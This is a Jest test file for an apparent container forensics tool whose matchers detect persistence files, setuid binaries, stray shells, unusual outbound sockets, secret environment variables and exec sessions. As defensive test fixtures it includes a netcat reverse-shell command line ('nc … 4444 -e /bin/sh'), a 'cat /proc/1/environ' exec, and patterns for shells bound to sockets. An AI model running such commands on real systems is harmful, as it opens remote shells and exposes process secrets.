import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { computeFindings } from '../../../src/findings/compute.js';
import { loadEvidence, type Evidence, type SocketInfo } from '../../../src/findings/evidence.js';
import { cidr } from '../../../src/findings/ip.js';
import type { Matcher } from '../../../src/findings/matcher.js';
import { matchers } from '../../../src/findings/matchers/index.js';
import { Diagnostics } from '../../../src/timeline/artifacts.js';
import type { FsEntry } from '../../../src/timeline/fs-entries.js';
import { openCaseSource } from '../../../src/evidence/case-source.js';
import { cleanCase, compromisedCase, writeCase } from '../../fixtures/case-folder.js';

/** A small in-memory Evidence (matchers are pure functions of it). */
function evidence(over: Partial<Evidence> = {}): Evidence {
  return {
    files: [],
    fs: [],
    sockets: [],
    networks: [cidr('172.18.0.3', 16)!],
    exposed: new Set(['80/tcp']),
    pathDirs: ['/usr/sbin', '/usr/bin', '/sbin', '/bin'],
    diag: new Diagnostics(),
    inspect: {
      artifact: 'container/inspect.json',
      doc: {
        Path: 'nginx',
        Config: {
          Env: [
            'PATH=/bin',
            'DB_PASSWORD=hunter2',
            'GITHUB_TOKEN=',
            'PASSWORD_FILE=/run/s',
            'USER=app',
          ],
        },
      },
    },
    ...over,
  };
}
const file = (path: string, change: FsEntry['change'], mode?: number, type = 'file'): FsEntry => ({
  path,
  change,
  mode,
  type,
  refs: { changes: { artifact: 'fs/changes.json', entry: 0 } },
});
const sock = (o: Partial<SocketInfo>): SocketInfo => ({
  proto: 'tcp',
  localAddress: '172.18.0.3',
  localPort: 80,
  remoteAddress: '0.0.0.0',
  remotePort: 0,
  state: 'LISTEN',
  processes: [],
  phase: 'snapshot',
  artifact: 'net/snapshot/sockets.json',
  entry: 0,
  ...o,
});
const proc = (pid: number, nspid: number, ppid: number, comm: string, cmdline = [comm]) => ({
  pid,
  nspid,
  ppid,
  comm,
  cmdline,
  exe: `/bin/${comm}`,
  entry: pid,
});

function keys(kind: string, params: unknown, ev: Evidence): string[] {
  const m = matchers.get(kind) as Matcher;
  return m
    .match(m.params.parse(params), ev)
    .map((x) => x.key)
    .sort();
}

const fsEv = evidence({
  fs: [
    file('/etc/passwd', 'changed', 0o644),
    file('/etc/sudoers.d', 'added', 0o755, 'directory'),
    file('/etc/sudoers.d/evil', 'added', 0o440),
    file('/home/u/.ssh/authorized_keys', 'added', 0o600),
    file('/tmp/.x/dropper', 'added', 0o755),
    file('/tmp/notes.txt', 'added', 0o644),
    file('/dev/shm/run', 'added', 0o700),
    file('/var/tmp', 'changed', 0o1777, 'directory'),
    file('/usr/bin/su2', 'added', 0o4755),
    file('/usr/bin/sgid', 'changed', 0o2755),
    file('/usr/bin/deep/not-direct', 'added', 0o755),
    file('/etc/shadow', 'deleted'),
    file('/opt/app/bin/tool', 'added', 0o755),
  ],
});

describe('matchers (table-driven)', () => {
  test.each<[string, string, unknown, Evidence, string[]]>([
    [
      'fsChange: globs, kinds, directories skipped',
      'fsChange',
      { pathGlob: ['/etc/passwd', '/etc/shadow', '/etc/sudoers.d/**'] },
      fsEv,
      ['/etc/passwd', '/etc/sudoers.d/evil'],
    ],
    [
      'fsChange: deleted only when asked',
      'fsChange',
      { pathGlob: ['/etc/shadow'], kinds: ['deleted'] },
      fsEv,
      ['/etc/shadow'],
    ],
    [
      'fsChange: ** matches any depth',
      'fsChange',
      { pathGlob: ['**/.ssh/authorized_keys'] },
      fsEv,
      ['/home/u/.ssh/authorized_keys'],
    ],
    [
      'fsChange: directories when asked',
      'fsChange',
      { pathGlob: ['/etc/sudoers.d'], includeDirectories: true },
      fsEv,
      ['/etc/sudoers.d'],
    ],
    [
      'fsAdded: executables in temp dirs',
      'fsAdded',
      { under: ['/tmp', '/dev/shm', '/var/tmp'], executable: true },
      fsEv,
      ['/dev/shm/run', '/tmp/.x/dropper'],
    ],
    [
      'fsAdded: any file when executable is false',
      'fsAdded',
      { under: ['/tmp'] },
      fsEv,
      ['/tmp/.x/dropper', '/tmp/notes.txt'],
    ],
    [
      'setuid: setuid and setgid, added or changed',
      'setuid',
      true,
      fsEv,
      ['/usr/bin/sgid', '/usr/bin/su2'],
    ],
    ['setuid: added only', 'setuid', { kinds: ['added'] }, fsEv, ['/usr/bin/su2']],
    [
      'pathBinaryNotInImage: directly in a PATH dir',
      'pathBinaryNotInImage',
      true,
      fsEv,
      ['/usr/bin/su2'],
    ],
    [
      'pathBinaryNotInImage: extra dirs',
      'pathBinaryNotInImage',
      { extraDirs: ['/opt/app/bin'] },
      fsEv,
      ['/opt/app/bin/tool', '/usr/bin/su2'],
    ],
  ])('%s', (_label, kind, params, ev, expected) => {
    expect(keys(kind, params, ev)).toEqual(expected);
  });

  const procs = {
    artifact: 'proc/processes.json',
    list: [
      proc(10, 1, 5, 'nginx'),
      proc(11, 2, 10, 'nginx'),
      proc(12, 3, 11, 'sh', ['sh', '-c', 'id']),
      proc(20, 9, 5, 'bash'),
      proc(21, 10, 20, 'python3'),
    ],
  };
  test.each<[string, unknown, Evidence, string[]]>([
    [
      'shells under a non-shell entrypoint',
      { names: ['sh', 'bash', 'python*'], entrypointNotIn: ['sh', 'bash'] },
      evidence({ processes: procs }),
      ['12', '20', '21'],
    ],
    [
      'quiet under a shell entrypoint',
      { names: ['sh', 'bash'], entrypointNotIn: ['sh', 'nginx'] },
      evidence({ processes: procs }),
      [],
    ],
    [
      'quiet when the entrypoint is unknown',
      { names: ['sh'], entrypointNotIn: ['sh'] },
      evidence({ processes: procs, inspect: undefined }),
      [],
    ],
    [
      'quiet when pid 1 is a shell running an entrypoint script',
      { names: ['sh'], entrypointNotIn: ['sh'] },
      evidence({
        processes: {
          ...procs,
          list: [proc(10, 1, 5, 'sh', ['sh', '/entrypoint.sh']), proc(12, 3, 10, 'sh')],
        },
      }),
      [],
    ],
    [
      'outside the entrypoint tree',
      { outsideEntrypointTree: true },
      evidence({ processes: procs }),
      ['20', '21'],
    ],
    [
      'names and tree together',
      { names: ['python*'], outsideEntrypointTree: true },
      evidence({ processes: procs }),
      ['21'],
    ],
  ])('process: %s', (_label, params, ev, expected) => {
    expect(keys('process', params, ev)).toEqual(expected);
  });

  const sockets = [
    sock({ localAddress: '0.0.0.0' }),
    sock({ localAddress: '0.0.0.0', localPort: 31337 }),
    sock({ localAddress: '127.0.0.1', localPort: 9000 }),
    sock({ localAddress: '127.0.0.11', localPort: 43703 }),
    sock({ proto: 'udp', localAddress: '0.0.0.0', localPort: 5353, state: 'CLOSE' }),
    sock({
      localPort: 40000,
      remoteAddress: '172.18.0.2',
      remotePort: 4444,
      state: 'ESTABLISHED',
      phase: 'before',
    }),
    sock({
      localPort: 40000,
      remoteAddress: '172.18.0.2',
      remotePort: 4444,
      state: 'ESTABLISHED',
      phase: 'after',
      entry: 1,
    }),
    sock({
      proto: 'tcp6',
      localAddress: '::ffff:172.18.0.3',
      localPort: 40002,
      remoteAddress: '::ffff:93.184.216.34',
      remotePort: 443,
      state: 'ESTABLISHED',
    }),
    sock({ localPort: 80, remoteAddress: '203.0.113.9', remotePort: 51234, state: 'ESTABLISHED' }),
    sock({ localPort: 41000, remoteAddress: '127.0.0.1', remotePort: 6379, state: 'ESTABLISHED' }),
    sock({
      proto: 'udp',
      localPort: 45000,
      remoteAddress: '8.8.8.8',
      remotePort: 53,
      state: 'ESTABLISHED',
    }),
  ];
  test.each<[string, string, unknown, string[]]>([
    [
      'socket: every outbound (inbound to :80 and loopback excluded)',
      'socket',
      { outbound: true },
      [
        'tcp|172.18.0.3:40000|172.18.0.2:4444',
        'tcp|[::ffff:172.18.0.3]:40002|[::ffff:93.184.216.34]:443',
        'udp|172.18.0.3:45000|8.8.8.8:53',
      ],
    ],
    [
      'socket: off the container networks',
      'socket',
      { outbound: true, notOnContainerNetworks: true },
      [
        'tcp|[::ffff:172.18.0.3]:40002|[::ffff:93.184.216.34]:443',
        'udp|172.18.0.3:45000|8.8.8.8:53',
      ],
    ],
    [
      'socket: unusual ports',
      'socket',
      { outbound: true, remotePortNotIn: [53, 80, 443] },
      ['tcp|172.18.0.3:40000|172.18.0.2:4444'],
    ],
    [
      'listening: not exposed',
      'listening',
      { notExposedByImage: true },
      ['tcp/31337', 'tcp/43703', 'tcp/9000', 'udp/5353'],
    ],
    [
      "listening: the engine's DNS ignored by address",
      'listening',
      { notExposedByImage: true, ignoreAddresses: ['127.0.0.11'] },
      ['tcp/31337', 'tcp/9000', 'udp/5353'],
    ],
    [
      'listening: loopback ignored when asked',
      'listening',
      { notExposedByImage: true, ignoreLoopback: true },
      ['tcp/31337', 'udp/5353'],
    ],
  ])('%s', (_label, kind, params, expected) => {
    expect(keys(kind, params, evidence({ sockets }))).toEqual(expected);
  });

  test('socket: the two snapshots of one connection are one match with both as evidence', () => {
    const m = matchers.get('socket')!;
    const hits = m.match(
      m.params.parse({ outbound: true, remotePortNotIn: [443, 53] }),
      evidence({ sockets }),
    );
    expect(hits).toHaveLength(1);
    expect(hits[0].evidence).toEqual([
      { artifact: 'net/snapshot/sockets.json', ref: { entry: 0 } },
      { artifact: 'net/snapshot/sockets.json', ref: { entry: 1 } },
    ]);
    expect(hits[0].summary).toContain('seen: before, after');
  });

  test('env: secret names, empty and *_FILE ignored, value never copied', () => {
    const m = matchers.get('env')!;
    const hits = m.match(
      m.params.parse({ secretNamePattern: 'pass|token|secret', ignoreNamePattern: '_FILE$' }),
      evidence(),
    );
    expect(hits.map((h) => h.key)).toEqual(['DB_PASSWORD']);
    expect(JSON.stringify(hits)).not.toContain('hunter2');
    expect(hits[0].evidence).toEqual([
      { artifact: 'container/inspect.json', ref: { entry: 1, field: 'Config.Env' } },
    ]);
  });

  test("exec: the responder's own sessions are excluded unless asked", () => {
    const sessions = [
      // Session a began before the first read of the events and ended before the second one.
      {
        execId: 'a',
        command: 'sh -c id',
        refs: [
          { artifact: 'container/events.jsonl', line: 3 },
          { artifact: 'container/events.jsonl', line: 4 },
          { artifact: 'container/events-2.jsonl', line: 7 },
        ],
      },
      {
        execId: 'b',
        command: 'cat /proc/1/environ',
        refs: [{ artifact: 'container/events.jsonl', line: 9 }],
        responder: { step: 's', action: 'collect:x' },
      },
    ];
    const ev = evidence({ execs: { sessions } });
    expect(keys('exec', {}, ev)).toEqual(['a']);
    const m = matchers.get('exec')!;
    expect(
      m.match(m.params.parse({}), ev)[0].evidence.map((e) => `${e.artifact}:${e.ref.line}`),
    ).toEqual([
      'container/events.jsonl:3',
      'container/events.jsonl:4',
      'container/events-2.jsonl:7',
    ]);
    expect(keys('exec', { includeResponder: true }, ev)).toEqual(['a', 'b']);
  });
});

describe('rules over whole fixture cases', () => {
  let dirty: string;
  let clean: string;
  beforeAll(async () => {
    dirty = await writeCase(await mkdtemp(join(tmpdir(), 'cirt-fd-')), compromisedCase());
    clean = await writeCase(await mkdtemp(join(tmpdir(), 'cirt-fc-')), cleanCase());
  });
  afterAll(async () => {
    await rm(dirty, { recursive: true, force: true });
    await rm(clean, { recursive: true, force: true });
  });

  test('the compromised case: every planted thing found, each linked to timeline events', async () => {
    const doc = await computeFindings(await openCaseSource(dirty));
    const byRule = (r: string) => doc.findings.filter((f) => f.rule === r);
    expect(byRule('ssh-authorized-keys').map((f) => f.summary)).toEqual([
      '/root/.ssh/authorized_keys was added',
    ]);
    expect(byRule('cron-persistence')).toHaveLength(1);
    expect(byRule('executable-in-temp')[0].summary).toContain('/tmp/.cache/kworkerd');
    expect(byRule('outbound-unusual-port')[0].summary).toContain('172.18.0.2:4444');
    expect(byRule('exec-session').map((f) => f.summary)).toEqual(
      expect.arrayContaining([expect.stringContaining('authorized_keys')]),
    );
    expect(byRule('secret-in-environment').map((f) => f.summary)).toEqual([
      'environment variable DB_PASSWORD holds a secret (value redacted, 7 characters)',
    ]);
    expect(doc.findings.map((f) => f.severity)).toEqual(
      [...doc.findings.map((f) => f.severity)].sort(
        (a, b) =>
          ['critical', 'high', 'medium', 'low', 'info'].indexOf(a) -
          ['critical', 'high', 'medium', 'low', 'info'].indexOf(b),
      ),
    );
    expect(byRule('executable-in-temp')[0].events).toEqual(
      expect.arrayContaining(['fs:fs/stat.jsonl#L1/mtime', 'fs:fs/stat.jsonl#L1/ctime']),
    );
    expect(byRule('exec-session')[0].events).toEqual(
      expect.arrayContaining([
        'exec:container/events.jsonl#L3/session',
        'engine:container/events.jsonl#L5',
      ]),
    );
    for (const f of doc.findings.filter((x) => x.rule !== 'secret-in-environment'))
      expect(f.events.length).toBeGreaterThan(0);
    // Findings carry their time: that of their earliest event.
    expect(byRule('executable-in-temp')[0].time).toMatch(/^2026-11-28T20:00:01\.\d{6}\+00:00$/);
  });

  test('the clean control case of the same image: no finding', async () => {
    const ev = await loadEvidence(await openCaseSource(clean));
    expect(ev.processes?.list.length).toBe(2);
    const doc = await computeFindings(await openCaseSource(clean));
    expect(doc.findings).toEqual([]);
  });
});

describe('exec sessions in bursts', () => {
  const session = (execId: string, s: number, command = `cmd ${execId}`) => ({
    execId,
    command,
    createdAt: { us: Date.UTC(2026, 10, 28, 20, 0, s) * 1000 },
    refs: [{ artifact: 'container/events.jsonl', line: s + 1 }],
  });

  test('sessions close together are one finding listing them; a later one is its own; 0 keeps them apart', () => {
    const ev = evidence({
      execs: {
        sessions: [session('a', 0), session('b', 30), session('c', 100), session('d', 900)],
      },
    });
    const m = matchers.get('exec')!;
    const found = m.match(m.params.parse({}), ev);
    expect(found.map((f) => f.key)).toEqual(['a', 'd']);
    expect(found[0].summary).toBe('3 exec sessions within 100 s: a: cmd a; b: cmd b; c: cmd c');
    expect(found[0].evidence.map((e) => e.ref.line)).toEqual([1, 31, 101]);
    expect(m.match(m.params.parse({ burstSeconds: 0 }), ev)).toHaveLength(4);
  });
});

describe('shells wired to the network', () => {
  const p = (
    pid: number,
    comm: string,
    cmdline: string[],
    fds: { fd: number; target: string }[] = [],
  ) => ({
    pid,
    nspid: pid,
    ppid: 1,
    comm,
    cmdline,
    exe: null,
    entry: pid,
    fds,
  });
  test('a shell on a socket, nc -e, a listening shell; a shell on a tty and a plain nc are not', () => {
    const ev = evidence({
      processes: {
        artifact: 'proc/processes.json',
        list: [
          p(
            7,
            'sh',
            ['sh'],
            [
              { fd: 0, target: 'socket:[4242]' },
              { fd: 1, target: 'socket:[4242]' },
              { fd: 2, target: 'socket:[4242]' },
            ],
          ),
          p(8, 'sh', ['sh', '-i'], [{ fd: 0, target: '/dev/pts/0' }]),
          p(9, 'nc', ['nc', '172.18.0.2', '4444', '-e', '/bin/sh']),
          p(10, 'nc', ['nc', '-l', '-p', '8080']),
        ],
      },
      sockets: [
        {
          proto: 'tcp',
          localAddress: '0.0.0.0',
          localPort: 31337,
          remoteAddress: null,
          remotePort: null,
          state: 'LISTEN',
          processes: ['sh'],
          phase: 'before-isolation',
          artifact: 'net/before-isolation/sockets.json',
          entry: 0,
        },
      ],
    });
    const m = matchers.get('shellSocket')!;
    const found = m.match(m.params.parse(true), ev);
    expect(found.map((f) => f.key)).toEqual([
      'fd-7',
      'nc-9',
      'listen-before-isolation-0.0.0.0:31337',
    ]);
    expect(found[0].summary).toMatch(
      /stdin, stdout, stderr on a socket \(socket:\[4242\]\): a reverse or bind shell/,
    );
    expect(found[1].summary).toMatch(
      /runs a program for whoever connects: nc 172\.18\.0\.2 4444 -e \/bin\/sh/,
    );
  });
});
